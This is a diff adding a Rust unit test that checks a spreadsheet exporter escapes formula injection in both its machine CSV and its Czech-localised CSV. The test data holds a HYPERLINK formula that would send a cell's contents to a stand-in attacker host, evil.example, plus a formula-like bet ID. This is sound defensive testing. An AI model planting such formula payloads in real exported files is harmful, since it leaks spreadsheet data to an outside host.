@@ -85,4 +85,32 @@ mod tests {
              Black Jack,-50,0,\r\n"
         );
     }
+
+    #[test]
+    fn a_round_id_a_spreadsheet_would_run_is_text_in_both_files_and_amounts_stay_numbers() {
+        let attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+        let sheet = Sheet {
+            name: "findings".into(),
+            columns: vec![
+                column("round_id", "Kolo", "Round"),
+                column("bet_ids", "Sázky", "Bets"),
+                column("amount_h", "Částka (Kč)", "Amount (CZK)"),
+            ],
+            rows: vec![vec![
+                Cell::Text(attack.into()),
+                Cell::Text("-A1-A1".into()),
+                Cell::Money(-50),
+            ]],
+        };
+        assert_eq!(
+            sheet.to_machine_csv().unwrap(),
+            "round_id,bet_ids,amount_h\r\n\
+             \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",\"'-A1-A1\",-50\r\n"
+        );
+        assert_eq!(
+            sheet.to_people_csv(Language::Czech).unwrap(),
+            "\u{feff}Kolo;Sázky;Částka (Kč)\r\n\
+             \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\";\"'-A1-A1\";-0,50\r\n"
+        );
+    }
 }
